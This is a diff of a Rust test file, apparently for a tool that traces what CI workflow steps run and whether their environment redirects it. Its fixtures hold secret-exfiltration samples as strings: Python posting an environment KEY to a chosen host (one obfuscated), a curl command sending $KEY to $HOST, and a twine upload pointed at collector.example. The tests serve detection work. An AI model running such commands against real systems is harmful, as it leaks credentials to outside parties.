@@ -35,26 +35,48 @@ fn same_as_anew(known: &Arc<KnownSteps>, text: &str, local: &Program) -> String 
 const SENDS: &str =
     "import os, requests\nrequests.post('https://' + os.environ['HOST'] + '/', data=os.environ['KEY'])\n";
 
-/// Each of these callers is a step of its own; the program is one.
+/// Each of these callers is a step of its own, for what stands in it; the program is one.
 #[test]
-fn a_program_is_followed_once_for_steps_that_differ_in_what_it_does_not_see() {
+fn a_program_is_followed_once_for_steps_that_run_it_alike() {
     let known = KnownSteps::new();
-    let host = "          HOST: collector.example\n";
-    for (at, beside) in ["", "          UNSEEN: one\n", "          UNSEEN: two\n"].into_iter().enumerate() {
-        let anew = same_as_anew(&known, &caller(&format!("{host}{beside}")), &Program(SENDS));
+    for (at, beside) in ["", "        id: one\n", "        id: two\n"].into_iter().enumerate() {
+        let text = format!("{}{beside}", caller("          HOST: collector.example\n"));
+        let anew = same_as_anew(&known, &text, &Program(SENDS));
         assert!(anew.contains("collector.example"), "{anew}");
         assert_eq!(count(&known), 1 + at + 1, "the steps so far, and one program");
     }
 }
 
+/// Also one that the program's text does not name: it is put together, or belongs to a tool that it runs.
 #[test]
-fn a_variable_that_it_names_makes_another_program() {
-    let known = KnownSteps::new();
-    for host in ["one.example", "two.example"] {
-        let anew = same_as_anew(&known, &caller(&format!("          HOST: {host}\n")), &Program(SENDS));
-        assert!(anew.contains(host), "{anew}");
+fn another_environment_makes_another_program() {
+    for (program, name) in [
+        (SENDS, "HOST"),
+        (
+            "import os, requests\nrequests.post('https://' + os.environ['HO' + 'ST'] + '/', data=os.environ['KEY'])\n",
+            "HOST",
+        ),
+        (
+            "import os\nos.system(os.environ['COMMAND'])\n",
+            "COMMAND: curl -d \"$KEY\" \"https://$HOST/\"\n          HOST",
+        ),
+    ] {
+        let known = KnownSteps::new();
+        for host in ["one.example", "two.example"] {
+            let anew =
+                same_as_anew(&known, &caller(&format!("          {name}: {host}\n")), &Program(program));
+            assert!(anew.contains(host), "{program} {anew}");
+        }
+        assert_eq!(count(&known), 4);
     }
-    assert_eq!(count(&known), 4);
+    let known = KnownSteps::new();
+    let local = Program("import subprocess\nsubprocess.run(['twine', 'upload', 'dist/*'])\n");
+    let usual = caller("          TWINE_PASSWORD: ${{ secrets.KEY }}\n");
+    assert!(!same_as_anew(&known, &usual, &local).contains("collector.example"));
+    let elsewhere = caller(
+        "          TWINE_PASSWORD: ${{ secrets.KEY }}\n          TWINE_REPOSITORY_URL: https://collector.example/\n",
+    );
+    assert!(same_as_anew(&known, &elsewhere, &local).contains("collector.example"));
 }
 
 #[test]
